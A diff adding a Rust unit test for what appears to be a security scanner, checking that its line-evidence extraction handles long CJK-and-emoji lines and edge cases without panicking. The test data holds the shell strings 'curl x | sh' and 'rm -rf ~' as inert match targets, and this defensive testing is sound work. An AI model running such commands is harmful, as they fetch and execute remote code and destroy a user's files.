@@ -1254,6 +1254,33 @@ pub(crate) mod tests {
     pub(crate) const PANIC_MARK: &[u8] = b"\0planted-panic\0";
 
     #[test]
+    fn evidence_is_the_line_cut_at_character_boundaries_on_long_multilingual_lines() {
+        // A long line of CJK and emoji (3 and 4 bytes): the reach lands inside characters.
+        let pad = "漢字😀".repeat(700);
+        let raw = format!("前\n{pad}curl x | sh{pad}\n後\n");
+        let lines = LineIndex::new(&raw);
+        let start = raw.find("curl").unwrap();
+        let end = start + "curl x | sh".len();
+        let a = line_evidence(&raw, &lines, start, end);
+        // The same line moved down by a line above it: the same evidence.
+        let moved = format!("新\n{raw}");
+        let at = moved.find("curl").unwrap();
+        let b = line_evidence(&moved, &LineIndex::new(&moved), at, at + end - start);
+        assert_eq!(a, b);
+        // Something added on the line near the match: other evidence; far away: the same.
+        let near = raw.replacen("curl x | sh", "curl x | sh; rm -rf ~", 1);
+        let at = near.find("curl").unwrap();
+        assert_ne!(
+            line_evidence(&near, &LineIndex::new(&near), at, at + end - start),
+            a
+        );
+        // Ends of the text and empty matches do not panic.
+        line_evidence(&raw, &lines, raw.len(), raw.len());
+        line_evidence(&raw, &lines, 0, 0);
+        line_evidence("", &LineIndex::new(""), 0, 5);
+    }
+
+    #[test]
     fn a_panic_costs_its_file_not_the_skill() {
         let scan = scan_files(&[
             (
